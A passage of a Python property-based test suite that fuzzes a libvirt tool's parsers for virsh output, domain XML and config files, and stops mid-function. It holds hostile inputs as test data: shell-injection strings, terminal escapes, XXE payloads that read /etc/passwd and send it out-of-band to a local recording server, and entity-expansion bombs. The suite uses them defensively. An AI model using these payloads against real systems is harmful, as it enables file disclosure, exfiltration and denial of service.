"""Property-based fuzzing of every parser of host-supplied text.

Whatever a host (or a hostile tenant on it) prints, writes or names, a parser
returns plain data or raises the project's own typed error: DriverError
subclasses for the drivers, LeaderError for lease records, LibvirtConfError for
libvirt's config files; the sanlock status parsers never raise at all. Besides
arbitrary text and bytes, structured strategies build *valid* inputs from
hostile pieces (quotes, shell metacharacters, terminal escapes, bidi overrides,
line separators libvirt accepts inside names, 1000-character names, Unicode
digits that str.isdigit() accepts and int() refuses) and check the parse gives
back exactly what was built.

Hypothesis runs derandomized (same examples every run) and without an example
database, so the file is deterministic.
"""

from __future__ import annotations

import http.server
import os
import shutil
import struct
import threading
import time
import urllib.parse
import uuid as uuidlib

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from lxml import etree

from virttui.drivers.base import Driver
from virttui.drivers.errors import ConnectionFailed, DriverError, InvalidURI, ParseError
from virttui.drivers.model import Disk
from virttui.drivers.nodexml import TEST_NS, VIRTTUI_NS, NodeDescription, load_node
from virttui.drivers.registry import UnavailableDriver, open_driver, open_driver_or_placeholder
from virttui.drivers.transport import LocalTransport
from virttui.drivers.uri import KNOWN_TRANSPORTS, LibvirtURI, parse_uri
from virttui.drivers.virsh import VirshDriver
from virttui.drivers.virshparse import (
    NodeFacts,
    VirshEvent,
    new_marker,
    parse_domstats,
    parse_event,
    parse_names,
    parse_node_facts,
    parse_uuid_names,
    split_sections,
    stat_int,
    virsh_error,
)
from virttui.drivers.xmlparse import DomainDefinition, parse_domain, parse_xml
from virttui.locks.leader import LEADER_CHECKSUM_LEN, LEADER_SIZE, LeaderError, pack_leader, parse_leader
from virttui.locks.libvirtconf import LibvirtConfError, lock_config, parse_libvirt_conf
from virttui.locks.model import LockConfig
from virttui.locks.sanlockstatus import DaemonStatus, parse_client_status, parse_host_status, parse_lockspace_hosts

FUZZ = settings(derandomize=True, database=None, deadline=None, max_examples=200,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
FEW = settings(FUZZ, max_examples=80)  # the structured strategies: each example is larger

# -- strategies ---------------------------------------------------------------------------------
NASTY = (
    "'", '"', "\\", "x'; touch /tmp/pwned; '", "$(id)", "`id`", "|", ";", "&", "<", ">", "&amp;", "&x;", "]]>",
    "<!--", "-->", "\x1b[31m", "\x1b]0;owned\x07", "\x1b[2J", "\u202e", "\u2066", "\u200b", "\ufeff", "\u2028",
    "\u2029", "\x85", "\r", "\t", "\x0b", "\x0c", "\x1c", "\x7f", "\x00", "%", "%00", "%2F", "@", "//", ":", "?",
    "#", "[", "]", "=", "': ", "Domain: '", "event '", "²", "٣", "１", "①", "--5", "-", "+", "ǅ", "İ", "ß",
    "naïve ünïcödé", "a" * 1000, "é" * 1000, "@@virttui-section@@", "@@virttui-missing@@", " ", "  ",
)
ANY_CHAR = st.characters(exclude_categories=())  # every code point, lone surrogates too
any_text = st.text(ANY_CHAR, max_size=200)
piece = st.one_of(st.sampled_from(NASTY), st.text(max_size=12), st.text(ANY_CHAR, max_size=6))
hostile = st.lists(piece, max_size=5).map("".join)


def xml_legal(text: str) -> str:
    """Drop what XML 1.0 cannot carry at all (lxml refuses it when building a tree)."""
    def ok(char: str) -> bool:
        code = ord(char)
        return (code in (0x9, 0xA, 0xD) or 0x20 <= code <= 0xD7FF or 0xE000 <= code <= 0xFFFD
                or 0x10000 <= code <= 0x10FFFF)

    return "".join(char for char in text if ok(char))


def no_newline(text: str) -> str:
    return text.replace("\n", "").replace("\x00", "")


# libvirt refuses "\n" in names (and C strings end at NUL); anything else, "\r", "\x85", "\u2028" included, it takes.
domain_name = hostile.map(no_newline).filter(lambda n: n != "")


def only(errors, fn, *args, **kwargs):  # noqa: ANN001, ANN002, ANN003, ANN201
    """Call fn; the expected typed errors become None, anything else fails the example."""
    try:
        return fn(*args, **kwargs)
    except errors:
        return None


# == virsh output =================================================================================
@FUZZ
@given(text=any_text, count=st.integers(0, 6))
@example(text="Domain: '\n  a=b\n", count=2)
@example(text="\x00\xff\ud800", count=1)
def test_virsh_output_parsers_raise_only_parse_errors(text, count):
    stats = only(ParseError, parse_domstats, text)
    assert stats is None or all(isinstance(v, dict) for v in stats.values())
    pairs = only(ParseError, parse_uuid_names, text)
    assert pairs is None or all(str(uuidlib.UUID(u)) == u and n for u, n in pairs)
    assert isinstance(parse_names(text), set)
    facts = only(ParseError, parse_node_facts, text, text, text)
    assert facts is None or isinstance(facts, NodeFacts)
    parts = only(ParseError, split_sections, text, count, SECTION_MARKER)
    assert parts is None or len(parts) == count
    for line in (text, *text.split("\n")):
        event = parse_event(line)
        assert event is None or isinstance(event, VirshEvent)
    value = only(ParseError, stat_int, {"k": text}, "k", 7)
    assert value is None or (value,) == _int_or_none(text)


def _int_or_none(text: str) -> tuple[int, ...]:
    try:
        return (int(text),)
    except ValueError:
        return ()


stat_key = st.from_regex(r"[a-z][a-z0-9_.-]{0,30}", fullmatch=True)
stat_value = st.one_of(st.integers(-(2**64), 2**64).map(str), hostile.map(no_newline).map(str.strip))


@FEW
@given(st.dictionaries(domain_name, st.dictionaries(stat_key, stat_value, max_size=8), max_size=6))
def test_domstats_as_virsh_prints_them_parse_back_exactly(blocks):
    """`virsh domstats --raw`: names of any kind libvirt allows, keys and values of any kind."""
    text = "".join(f"Domain: '{name}'\n" + "".join(f"  {k}={v}\n" for k, v in stats.items()) + "\n"
                   for name, stats in blocks.items())
    assert parse_domstats(text) == blocks
    for stats in blocks.values():
        for key, value in stats.items():
            want = _int_or_none(value)
            if want:
                assert stat_int(stats, key) == want[0]
            else:
                with pytest.raises(ParseError):
                    stat_int(stats, key)
        assert stat_int(stats, "absent.key", 42) == 42


@FUZZ
@given(st.lists(st.tuples(st.uuids().map(str), domain_name), max_size=8))
def test_uuid_listing_parses_back_exactly(pairs):
    text = "".join(f"{uuid} {name}\n" for uuid, name in pairs) + "\n"
    assert parse_uuid_names(text) == pairs
    assert parse_names("".join(f"{name}\n" for _, name in pairs) + "\n") == {name for _, name in pairs}


def test_names_with_line_separators_libvirt_accepts_survive_real_virsh(tmp_path):
    """Debian's virsh (libvirt's own test driver inside it) lists names with "\\r", NEL and U+2028; one such
    domain must not make its whole host unreadable (str.splitlines() cut them into garbage lines)."""
    names = ["vt-cr\rname", "vt-nel\x85name", "vt-ls\u2028name", "vt-q'uote': x", "vt-" + "n" * 1000,
             "vt-esc\x1b[31m", "vt-$(id)`id`"]
    domains = "".join(
        f"<domain type='test'><name>{_xml_text(name)}</name><uuid>{uuidlib.uuid5(uuidlib.NAMESPACE_URL, name)}</uuid>"
        "<memory>1024</memory>"
        f"<os><type>hvm</type></os>{'<test:runstate>5</test:runstate>' if i % 2 else ''}</domain>"
        for i, name in enumerate(names) if xml_legal(name) == name)
    node = tmp_path / "node.xml"
    node.write_text(f"<node xmlns:test='{TEST_NS}'><cpu><nodes>1</nodes><sockets>1</sockets><cores>2</cores>"
                    f"<threads>1</threads></cpu><memory>1048576</memory>{domains}</node>")
    uri = f"test://{node}"
    driver = VirshDriver(uri, parse_uri(uri), LocalTransport())
    driver.connect()
    try:
        shown = {d.name for d in driver.poll().domains}
    finally:
        driver.close()
    legal = {name for name in names if xml_legal(name) == name}
    assert shown == legal
    assert {d.definition.name for d in load_node(str(node)).domains} == legal


def _xml_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace("\r", "&#13;")


@FUZZ
@given(cpus=st.integers(0, 10**6), memory=st.integers(0, 2**62), hostname=hostile.map(no_newline),
       noise=st.lists(st.tuples(st.from_regex(r"[A-Za-z][A-Za-z ()]{0,20}", fullmatch=True), hostile.map(no_newline)),
                      max_size=5),
       hv=st.tuples(st.from_regex(r"[A-Za-z]{1,8}", fullmatch=True), st.from_regex(r"[0-9.]{1,8}", fullmatch=True)))
def test_node_facts_parse_back(cpus, memory, hostname, noise, hv):
    noise = [(k, v) for k, v in noise if k.strip() not in ("CPU(s)", "Memory size")]
    nodeinfo = "".join(f"{k}: {v}\n" for k, v in noise) + f"CPU(s):  {cpus}\nMemory size:   {memory} KiB\n\n"
    version = f"Compiled against library: libvirt 9.0.0\nRunning hypervisor: {hv[0]} {hv[1]}\n"
    facts = parse_node_facts(nodeinfo, hostname + "\n", version)
    assert facts == NodeFacts(hostname.strip(), cpus, memory, hv[0], hv[1])


SECTION_MARKER = new_marker()
section = st.text(max_size=40).filter(lambda s: SECTION_MARKER not in s and not s.startswith("\n"))


@FUZZ
@given(st.lists(section, min_size=1, max_size=6), st.integers(0, 8))
def test_sections_split_back_exactly(parts, wrong):
    text = (SECTION_MARKER + "\n").join(parts)
    assert split_sections(text, len(parts), SECTION_MARKER) == parts
    if wrong != len(parts):
        with pytest.raises(ParseError, match="sections"):
            split_sections(text, wrong, SECTION_MARKER)


event_kind = st.from_regex(r"[a-z][a-z-]{0,20}", fullmatch=True)
event_detail = hostile.map(lambda s: no_newline(s).replace("'", ""))


@FUZZ
@given(kind=event_kind, name=domain_name, detail=st.one_of(st.none(), event_detail))
@example(kind="reboot", name="a': b", detail=None)  # no detail after a name containing "': "
@example(kind="lifecycle", name="a': b", detail="Stopped Destroyed")
def test_event_lines_give_back_kind_and_name(kind, name, detail):
    """virsh prints `event 'KIND' for domain 'NAME'[: DETAIL]`; details never contain a quote."""
    line = f"event '{kind}' for domain '{name}'" + (f": {detail}" if detail is not None else "") + "\n"
    assert parse_event(line) == VirshEvent(kind, name)


def _is_one_printable_line(text: str) -> bool:
    return len(text.splitlines()) <= 1 and text.isprintable()


@FUZZ
@given(stderr=any_text, returncode=st.integers(-255, 255))
@example(stderr="error: \x1b]0;owned\x07\x1b[2Jfailed to connect\r\nsecond line\u2028third\x85", returncode=1)
@example(stderr="sh: 1: virsh: not found\n", returncode=127)
def test_virsh_errors_are_typed_one_printable_line(stderr, returncode):
    """A host's stderr reaches notifications and the CLI's stderr: one line, no terminal escapes."""
    error = virsh_error(stderr, returncode, "qemu+ssh://hv1/system")
    assert isinstance(error, DriverError)
    text = str(error)
    assert text.startswith("qemu+ssh://hv1/system: ")
    assert _is_one_printable_line(text), repr(text)
    assert len(text) <= len("qemu+ssh://hv1/system: ") + 400
    if returncode == 127:
        assert isinstance(error, ConnectionFailed)


# == XML ==========================================================================================
@FUZZ
@given(st.one_of(any_text, st.binary(max_size=300),
                 st.lists(st.sampled_from(["<domain>", "</domain>", "<name>", "</name>", "<uuid>", "</uuid>",
                                           "<!DOCTYPE d [", "<!ENTITY x 'y'>", "<!ENTITY % p 'q'>", "]>", "&x;",
                                           "%p;", "<![CDATA[", "]]>", "<?xml version='1.0' encoding='latin1'?>",
                                           "<?pi x?>", "<!--", "-->", "<memory unit='GiB'>", "</memory>",
                                           "<vcpu current='2'>", "</vcpu>", "<devices><disk>", "</disk></devices>",
                                           "<target dev='vda'/>", "<source file='/x'/>", "'", '"', "\x00", "\ud800",
                                           "text", "4", "-1", "²"]),
                          max_size=25).map("".join)))
def test_arbitrary_xml_is_a_domain_or_a_parse_error(data):
    root = only(ParseError, parse_xml, data, "fuzz")
    if root is not None:
        definition = only(ParseError, parse_domain, root)
        assert definition is None or (definition.name and definition.vcpus >= 1)


UNITS = ["b", "bytes", "k", "KiB", "kb", "M", "MiB", "mb", "G", "GiB", "gb", "t", "TiB", "TB"]
SCALE = {"b": 1, "bytes": 1, "k": 1024, "kib": 1024, "kb": 1000, "m": 1024**2, "mib": 1024**2, "mb": 1000**2,
         "g": 1024**3, "gib": 1024**3, "gb": 1000**3, "t": 1024**4, "tib": 1024**4, "tb": 1000**4}
attr_name = st.from_regex(r"[a-z][a-z0-9_-]{0,10}", fullmatch=True)
xml_hostile = hostile.map(xml_legal)


@st.composite
def disk_specs(draw):  # noqa: ANN001, ANN201
    source_attr = draw(st.sampled_from(["file", "dev", "dir", "name", "volume", None]))
    return {
        "device": draw(st.one_of(st.none(), st.sampled_from(["disk", "cdrom", "floppy", "lun", ""]), xml_hostile)),
        "target": draw(st.one_of(st.none(), st.just(""), xml_hostile)),
        "bus": draw(st.one_of(st.none(), xml_hostile)),
        "source": (source_attr, draw(xml_hostile), draw(xml_hostile)),
        "format": draw(st.one_of(st.none(), xml_hostile)),
        "readonly": draw(st.booleans()),
        "shareable": draw(st.booleans()),
    }


def _number_or_junk(low: int, high: int) -> st.SearchStrategy:
    return st.one_of(st.integers(low, high).map(str), xml_hostile)


@st.composite
def domain_specs(draw):  # noqa: ANN001, ANN201
    return {
        "name": draw(xml_hostile),
        "uuid": draw(st.one_of(st.none(), st.uuids().map(str), st.uuids().map(lambda u: u.hex.upper()), xml_hostile)),
        "type": draw(st.one_of(st.none(), st.sampled_from(["kvm", "qemu", "test"]), xml_hostile)),
        "memory": draw(st.one_of(st.none(), st.tuples(_number_or_junk(-5, 2**50),
                                                       st.one_of(st.none(), st.sampled_from(UNITS), xml_hostile)))),
        "current": draw(st.one_of(st.none(), st.tuples(_number_or_junk(-5, 2**50),
                                                        st.one_of(st.none(), st.sampled_from(UNITS))))),
        "vcpu": draw(st.one_of(st.none(), st.tuples(_number_or_junk(-3, 4096),
                                                     st.one_of(st.none(), _number_or_junk(-3, 4096))))),
        "extra": draw(st.dictionaries(attr_name.filter(lambda a: a != "type" and not a.startswith("xml")),
                                      xml_hostile, max_size=3)),
        "disks": draw(st.lists(disk_specs(), max_size=3)),
    }


def build_domain(spec: dict) -> etree._Element:
    root = etree.Element("domain")
    if spec["type"] is not None:
        root.set("type", spec["type"])
    for key, value in spec["extra"].items():
        root.set(key, value)
    etree.SubElement(root, "name").text = spec["name"]
    if spec["uuid"] is not None:
        etree.SubElement(root, "uuid").text = spec["uuid"]
    for tag in ("memory", "current"):
        if spec[tag] is not None:
            elem = etree.SubElement(root, "memory" if tag == "memory" else "currentMemory")
            elem.text = spec[tag][0]
            if spec[tag][1] is not None:
                elem.set("unit", spec[tag][1])
    if spec["vcpu"] is not None:
        vcpu = etree.SubElement(root, "vcpu")
        vcpu.text = spec["vcpu"][0]
        if spec["vcpu"][1] is not None:
            vcpu.set("current", spec["vcpu"][1])
    devices = etree.SubElement(root, "devices")
    for disk in spec["disks"]:
        elem = etree.SubElement(devices, "disk")
        if disk["device"] is not None:
            elem.set("device", disk["device"])
        if disk["format"] is not None:
            etree.SubElement(elem, "driver", name="qemu", type=disk["format"])
        attr, value, pool = disk["source"]
        if attr is not None:
            source = etree.SubElement(elem, "source")
            source.set(attr, value)
            if attr == "volume":
                source.set("pool", pool)
        if disk["target"] is not None:
            target = etree.SubElement(elem, "target", dev=disk["target"])
            if disk["bus"] is not None:
                target.set("bus", disk["bus"])
        for flag in ("readonly", "shareable"):
            if disk[flag]:
                etree.SubElement(elem, flag)
    return root


def _size_kib(pair: tuple[str, str | None] | None) -> int | None:
    """What libvirt means by <memory unit=…>N</memory>, in KiB; None when it is not a size."""
    if pair is None:
        return 0
    value, unit = pair
    if not value.strip():
        return 0
    try:
        number = int(value.strip())
    except ValueError:
        return None
    scale = SCALE.get((unit or "kib").strip().lower())
    return None if scale is None or number < 0 else number * scale // 1024


def expected_domain(spec: dict) -> DomainDefinition | None:
    """The definition a correct parser returns, or None when the XML must be refused."""
    name = spec["name"].strip()
    if not name:
        return None
    raw_uuid = (spec["uuid"] or "").strip()
    try:
        uuid = str(uuidlib.UUID(raw_uuid)) if raw_uuid else None
    except ValueError:
        return None
    max_mem = _size_kib(spec["memory"])
    cur = _size_kib(spec["current"]) if spec["current"] is not None else max_mem
    if max_mem is None or cur is None:
        return None
    vcpus = 1
    if spec["vcpu"] is not None:
        text, current = spec["vcpu"]
        try:
            vcpus = int(current or text.strip() or 1)
        except ValueError:
            return None
    disks = []
    for disk in spec["disks"]:
        if not disk["target"]:
            return None
        attr, value, pool = disk["source"]
        path = ""
        if attr in ("file", "dev", "dir", "name"):
            path = value
        elif attr == "volume" and value:
            path = f"{pool}/{value}"
        disks.append(Disk(target=disk["target"], bus=disk["bus"] or "",
                          device=disk["device"] if disk["device"] is not None else "disk",
                          source=path, format=disk["format"] or "", readonly=disk["readonly"],
                          shareable=disk["shareable"]))
    return DomainDefinition(uuid=uuid or "", name=name, domain_type=spec["type"] or "", vcpus=max(vcpus, 1),
                            memory_kib=cur, max_memory_kib=max_mem, disks=tuple(disks))


@FEW
@given(domain_specs())
@example({"name": "a" * 1000, "uuid": None, "type": "kvm", "memory": ("1", "GiB"), "current": None,
          "vcpu": ("2", None), "extra": {}, "disks": []})
def test_domain_xml_built_from_hostile_pieces_parses_exactly_or_is_refused(spec):
    data = etree.tostring(build_domain(spec))
    want = expected_domain(spec)
    if want is None:
        got = only(ParseError, parse_domain, parse_xml(data, "fuzz"))
        assert got is None or got.name == got.name.strip()  # junk int() still takes ("٣") is harmless
        return
    got = parse_domain(parse_xml(data, "fuzz"), uuid_seed="seed")
    if not want.uuid:  # no <uuid>: a stable one derived from the name
        assert got.uuid == str(uuidlib.uuid5(uuidlib.NAMESPACE_URL, "seed" + want.name))
        want = DomainDefinition(**{**want.__dict__, "uuid": got.uuid})
    assert got == want


@FUZZ
@given(st.binary(max_size=400))
def test_node_files_of_arbitrary_bytes_fail_with_connection_failed(scratch, data):
    path = scratch / "node.xml"
    path.write_bytes(data)
    node = only(ConnectionFailed, load_node, str(path))
    assert node is None or isinstance(node, NodeDescription)


@st.composite
def node_specs(draw):  # noqa: ANN001, ANN201
    return {
        "cpu": draw(st.one_of(st.none(), st.lists(st.one_of(st.none(), _number_or_junk(-2, 64)), min_size=4,
                                                       max_size=4))),
        "memory": draw(st.one_of(st.none(), _number_or_junk(0, 2**40))),
        "host": draw(st.one_of(st.none(), st.tuples(st.one_of(st.none(), xml_hostile),
                                                     st.one_of(st.none(), _number_or_junk(-3, 2000))))),
        "domains": draw(st.lists(st.tuples(domain_specs(), st.one_of(st.none(), _number_or_junk(-1, 9))),
                                 max_size=4)),
        "volumes": draw(st.lists(st.tuples(xml_hostile, st.one_of(st.none(), _number_or_junk(0, 2**40))),
                                 max_size=3)),
    }


def build_node(spec: dict) -> bytes:
    root = etree.Element("node", nsmap={"test": TEST_NS, "virttui": VIRTTUI_NS})
    if spec["cpu"] is not None:
        cpu = etree.SubElement(root, "cpu")
        for tag, value in zip(("nodes", "sockets", "cores", "threads"), spec["cpu"], strict=True):
            if value is not None:
                etree.SubElement(cpu, tag).text = value
    if spec["memory"] is not None:
        etree.SubElement(root, "memory").text = spec["memory"]
    if spec["host"] is not None:
        ext = etree.SubElement(root, f"{{{VIRTTUI_NS}}}host")
        name, host_id = spec["host"]
        if name is not None:
            ext.set("name", name)
        if host_id is not None:
            ext.set("host_id", host_id)
    for domain, runstate in spec["domains"]:
        elem = build_domain(domain)
        if runstate is not None:
            etree.SubElement(elem, f"{{{TEST_NS}}}runstate").text = runstate
        root.append(elem)
    pool = etree.SubElement(root, "pool", type="dir")
    etree.SubElement(etree.SubElement(pool, "target"), "path").text = "/pool"
    for name, capacity in spec["volumes"]:
        vol = etree.SubElement(pool, "volume")
        etree.SubElement(vol, "name").text = name
        if capacity is not None:
            etree.SubElement(vol, "capacity", unit="bytes").text = capacity
    return etree.tostring(root)


def _int_attr(text: str | None, default: str) -> int | None:
    try:
        return int(text if text is not None else default)
    except ValueError:
        return None


def _int(text: str | None, default: int) -> int | None:
    if text is None:
        return default
    try:
        return int(text or default)
    except ValueError:
        return None


@FEW
@given(node_specs())
def test_node_xml_built_from_hostile_pieces_loads_exactly_or_fails_cleanly(scratch, spec):
    path = scratch / "built-node.xml"
    path.write_bytes(build_node(spec))
    node = only(ConnectionFailed, load_node, str(path))
    wants = [expected_domain(domain) for domain, _ in spec["domains"]]
    counts = [_int(v, 1) for v in spec["cpu"]] if spec["cpu"] is not None else [16]
    host_id = _int_attr(spec["host"][1], "1") if spec["host"] is not None else 1
    if host_id is not None and not 1 <= host_id <= 2000:  # sanlock's host_id range
        host_id = None
    runstates = [_int(r, 1) for _, r in spec["domains"]]
    names = [w.name for w in wants if w is not None]
    memory_ok = spec["memory"] is None or _size_kib((spec["memory"], None)) is not None
    valid = (None not in wants and None not in counts and host_id is not None and None not in runstates
             and len(set(names)) == len(names) and memory_ok)
    if not valid:
        return  # refused with ConnectionFailed, or accepted junk int() takes: either way nothing else escaped
    assert node is not None
    total = 1
    for count in counts:
        total *= max(count, 1)
    assert node.cpus == total
    assert node.host_id == host_id
    assert node.hostname == ((spec["host"][0] if spec["host"] else "") or "localhost")
    assert [d.definition.name for d in node.domains] == names


@pytest.fixture(scope="module")
def scratch(tmp_path_factory):  # noqa: ANN001, ANN201 - module-scoped: hypothesis reuses it across examples
    return tmp_path_factory.mktemp("fuzz")


def test_a_nul_in_a_test_uri_path_is_a_connection_error_not_a_crash():
    with pytest.raises(ConnectionFailed):
        load_node("/tmp/a\x00b.xml")


# -- hostile XML: external entities, network, entity expansion -------------------------------------
class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        _Recorder.hits.append(self.path)
        body = b'<!ENTITY e SYSTEM "file:///etc/passwd">'
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args) -> None:  # noqa: ANN002
        pass


@pytest.fixture
def evil_server():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    _Recorder.hits = []
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


PASSWD_MARK = "root:x:0:0"


def xxe_documents(base_url: str, dtd_file: str) -> dict[str, str]:
    body = "<name>{name}</name><uuid>6695eb01-f6a4-8304-79aa-97f2502e193f</uuid><memory>1024</memory>"
    xinclude = body.format(name='vm<xi:include href="file:///etc/passwd" parse="text"/>')
    return {
        "system entity in text": f'<!DOCTYPE domain [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                 f'<domain type="kvm">{body.format(name="vm&x;")}</domain>',
        "system entity in an attribute": f'<!DOCTYPE domain [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                         f'<domain type="&x;">{body.format(name="vm")}</domain>',
        "network entity": f'<!DOCTYPE domain [<!ENTITY x SYSTEM "{base_url}/entity">]>'
                          f'<domain type="kvm">{body.format(name="vm&x;")}</domain>',
        "network parameter entity": f'<!DOCTYPE domain [<!ENTITY % p SYSTEM "{base_url}/evil.dtd"> %p;]>'
                                    f'<domain type="kvm">{body.format(name="vm&e;")}</domain>',
        "file parameter entity": f'<!DOCTYPE domain [<!ENTITY % p SYSTEM "file://{dtd_file}"> %p;]>'
                                 f'<domain type="kvm">{body.format(name="vm&e;")}</domain>',
        "external DTD": f'<!DOCTYPE domain SYSTEM "{base_url}/external.dtd">'
                        f'<domain type="kvm">{body.format(name="vm")}</domain>',
        "out of band": f'<!DOCTYPE domain [<!ENTITY % a SYSTEM "file:///etc/passwd">'
                       f'<!ENTITY % b "<!ENTITY &#x25; c SYSTEM \'{base_url}/oob?%a;\'>"> %b; %c;]>'
                       f'<domain type="kvm">{body.format(name="vm")}</domain>',
        "xinclude": f'<domain type="kvm" xmlns:xi="http://www.w3.org/2001/XInclude">'
                    f'{xinclude}</domain>',
    }


def _leaks(text: str) -> bool:
    return PASSWD_MARK in text


@pytest.mark.parametrize("kind", ["system entity in text", "system entity in an attribute", "network entity",
                                  "network parameter entity", "file parameter entity", "external DTD",
                                  "out of band", "xinclude"])
def test_domain_xml_resolves_no_external_entity_and_fetches_nothing(kind, evil_server, tmp_path):
    assert PASSWD_MARK in open("/etc/passwd").read()  # the secret the attack is after is really there
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY e SYSTEM "file:///etc/passwd">')
    doc = xxe_documents(evil_server, str(dtd))[kind]
    try:
        root = parse_xml(doc, "hv1: domain x")
        shown = etree.tostring(root, encoding="unicode")
        definition = parse_domain(root)
        shown += repr(definition)
    except ParseError as exc:
        shown = str(exc)
    assert not _leaks(shown), shown[:300]
    assert _Recorder.hits == []
    # the same document as a domain inside a test-driver node file
    node = tmp_path / "node.xml"
    node.write_text(doc.replace("<domain ", "<node><domain ", 1).replace("</domain>", "</domain></node>")
                    .replace("DOCTYPE domain", "DOCTYPE node"))
    try:
        loaded = load_node(str(node))
        shown = repr(loaded)
    except ConnectionFailed as exc:
        shown = str(exc)
    assert not _leaks(shown), shown[:300]
    assert _Recorder.hits == []


LOL = "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10 if i else "lol"}">' for i in range(10))
BIG = "<!ENTITY big \"" + "x" * 50_000 + "\">"


@pytest.mark.parametrize("doc", [
    f"<!DOCTYPE domain [{LOL}]><domain><name>&lol9;</name></domain>",
    f"<!DOCTYPE domain [{LOL}]><domain type='&lol9;'><name>vm</name></domain>",
    f"<!DOCTYPE domain [{BIG}]><domain><name>{'&big;' * 5000}</name></domain>",
    f"<!DOCTYPE domain [{BIG}]><domain type='{'&big;' * 5000}'><name>vm</name></domain>",
], ids=["billion laughs in text", "billion laughs in an attribute", "quadratic blowup in text",
        "quadratic blowup in an attribute"])
def test_entity_expansion_bombs_are_refused_or_stay_small(doc, tmp_path):
    for parse in (lambda: parse_domain(parse_xml(doc, "bomb")),
                  lambda: load_node(_write(tmp_path / "bomb.xml", doc.replace("DOCTYPE domain", "DOCTYPE node")
                                           .replace("<domain", "<node><domain", 1) + "</node>"))):
        started = time.monotonic()
        try:
            result = parse()
        except (ParseError, ConnectionFailed) as exc:
            result = str(exc)
        assert time.monotonic() - started < 10.0  # an expansion that went through would take minutes
        assert len(repr(result)) < 1_000_000


def _write(path, text: str) -> str:  # noqa: ANN001
    path.write_text(text)
    return str(path)


# == libvirt config files ============================================================================
@FUZZ
@given(st.one_of(any_text, st.lists(st.sampled_from(["a", "=", " ", "[", "]", ",", '"', "'", '"""', "#", "\n", ";",
                                                     "1", "-", "+", "9" * 30, "x_y.z", "\r", "²"]),
                                    max_size=60).map("".join)))
@example("a = " + "[" * 5000)
@example("a = " + "9" * 5000)
@example("a = [" * 3 + "1" + "]" * 3)
def test_config_parser_raises_only_libvirt_conf_error(text):
    entries = only(LibvirtConfError, parse_libvirt_conf, text, "/etc/libvirt/fuzz.conf")
    assert entries is None or isinstance(entries, dict)
    try:
        parse_libvirt_conf(text, "/etc/libvirt/fuzz.conf")
    except LibvirtConfError as exc:
        assert str(exc).startswith("/etc/libvirt/fuzz.conf:")
        assert len(str(exc)) < 300


conf_string = st.text(max_size=20).filter(lambda s: "\n" not in s and "\r" not in s)
conf_scalar = st.one_of(st.integers(-(2**63), 2**63 - 1), conf_string)
conf_value = st.recursive(conf_scalar, lambda inner: st.lists(inner, max_size=4), max_leaves=8)
conf_name = st.from_regex(r"[A-Za-z][A-Za-z0-9_]{0,15}", fullmatch=True)
blank = st.sampled_from(["", " ", "\t", "  "])


@st.composite
def rendered(draw, value):  # noqa: ANN001, ANN201 - the libvirt syntax of one value, with random layout
    if isinstance(value, int):
        return ("+" if value >= 0 and draw(st.booleans()) else "") + str(value)
    if isinstance(value, str):
        quotes = [q for q in ("'", '"') if q not in value]
        if '"""' not in value and not value.endswith('"') and draw(st.booleans()):
            quotes.append('"""')
        if not quotes:
            quotes = ['"""'] if '"""' not in value and not value.endswith('"') else []
        assume(quotes)
        quote = draw(st.sampled_from(quotes))
        return f"{quote}{value}{quote}"
    items = [draw(rendered(item)) for item in value]
    body = ""
    for index, item in enumerate(items):
        body += item
        if index < len(items) - 1:
            body += draw(st.sampled_from([",", ", ", ",\n  ", " ,\r\n  "]))  # no comments in a list
    if items:  # the trailing comma is optional
        body += draw(st.sampled_from(["", ",", ",\n"]))
    return f"[{draw(blank)}{body}{draw(blank)}]"


@st.composite
def config_files(draw):  # noqa: ANN001, ANN201
    entries = draw(st.lists(st.tuples(conf_name, conf_value), max_size=6))
    lines = []
    for name, value in entries:
        comment = draw(st.sampled_from(["", "  # a comment", "\t#", "; # after a ';'"]))
        lines.append(f"{draw(blank)}{name}{draw(blank)}={draw(blank)}{draw(rendered(value))}{draw(blank)}{comment}")
        if draw(st.booleans()):
            lines.append(draw(st.sampled_from(["", "# comment line", "   ", "\t# indented"])))
    separator = draw(st.sampled_from(["\n", "\r\n", "\n\n"]))
    expected = {}
    for name, value in entries:
        expected.setdefault(name, value)  # the first value of a name counts, as in libvirt
    if not lines:
        return "", expected  # (a file of nothing but newlines is refused by libvirt)
    return separator.join(lines) + draw(st.sampled_from(["", "\n"])), expected


@FEW
@given(config_files())
@example(("big = 18446744073709551615\nsmall = -9223372036854775808\nzeros = 000000000000000000000000042\n",
          {"big": 2**64 - 1, "small": -(2**63), "zeros": 42}))
def test_config_files_parse_back_exactly(case):
    text, expected = case
    assert parse_libvirt_conf(text) == expected


@pytest.mark.parametrize("text", ["a = 18446744073709551616", "a = -9223372036854775809", "a = " + "9" * 5000,
                                  "a = " + "[" * 100 + "]" * 100, "auto_disk_leases = 2", "auto_disk_leases = -0",
                                  "host_id = -0", "io_timeout = -0"])
def test_what_libvirt_refuses_is_a_libvirt_conf_error(text):
    with pytest.raises(LibvirtConfError, match=r"^/etc/libvirt/qemu-sanlock.conf"):
        lock_config(None, text, None)


@FUZZ
@given(manager=st.one_of(conf_value, st.sampled_from(["sanlock", "lockd", "nop"])),
       auto=st.one_of(st.integers(-3, 3), conf_value), host_id=conf_value, lease_dir=conf_value,
       lockd_dir=conf_value)
def test_lock_config_is_a_lock_config_or_a_libvirt_conf_error(manager, auto, host_id, lease_dir, lockd_dir):
    def conf(**entries: object) -> str:
        return "".join(f"{k} = {_plain(v)}\n" for k, v in entries.items())

    texts = (conf(lock_manager=manager), conf(auto_disk_leases=auto, host_id=host_id, disk_lease_dir=lease_dir),
